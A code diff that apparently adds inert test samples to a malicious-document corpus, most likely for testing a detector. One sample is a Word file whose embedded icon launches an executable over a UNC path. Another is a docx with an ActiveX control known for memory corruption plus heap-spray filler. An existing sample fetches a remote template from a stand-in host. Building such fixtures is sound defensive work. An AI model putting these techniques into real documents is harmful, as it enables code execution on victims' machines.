@@ -1,8 +1,9 @@
 //! RTF with objects, fields and links, and the objects by themselves.
 
 use crate::document::rtf::{Rtf, hex};
-use crate::office::cfb::{Cfb, clsid_bytes, packaged};
+use crate::office::cfb::{Cfb, clsid_bytes, linked_package, packaged};
 use crate::office::ole1;
+use crate::office::ooxml::Package;
 use crate::{Sample, mark};
 
 /// The samples.
@@ -109,6 +110,36 @@ pub(super) fn all() -> Vec<Sample> {
                 let template: String = "http://192.0.2.61/t.dotm".bytes().map(|byte| format!("\\u{byte}?")).collect();
                 let object = [&br"{\object{\*\objdata "[..], &data, b"}}"].concat();
                 Rtf::new().raw(format!("{{\\*\\template {template}}}")).after(&object).build()
+            },
+        },
+        Sample {
+            id: "fr9",
+            file_name: "手順書.doc",
+            about: "an icon that starts a program of another machine; nothing is packed",
+            make: || {
+                let link = linked_package("手順", r"\\192.0.2.62\s\harmless-none.exe");
+                Cfb::new()
+                    .class("", "00020906-0000-0000-C000-000000000046")
+                    .stream("WordDocument", mark("fr9").into_bytes())
+                    .class("ObjectPool/_1", "0003000C-0000-0000-C000-000000000046")
+                    .stream("ObjectPool/_1/\u{1}Ole10Native", link)
+                    .build()
+            },
+        },
+        Sample {
+            id: "fr10",
+            file_name: "申請書.docx",
+            about: "a control of a class known for memory corruption, with data that fills memory",
+            make: || {
+                let class = clsid_bytes("1EFB6596-857C-11D1-B16A-00C0F0283628");
+                let spray = [class.as_slice(), mark("fr10").as_bytes(), &[0x0C; 150_000]].concat();
+                let xml = "<ax:ocx ax:classid=\"{1EFB6596-857C-11D1-B16A-00C0F0283628}\" ax:persistence=\"persistStreamInit\" \
+                           r:id=\"rId1\" xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" \
+                           xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"/>";
+                Package::docx("申請書")
+                    .part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", xml)
+                    .part("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX", spray)
+                    .build()
             },
         },
     ]
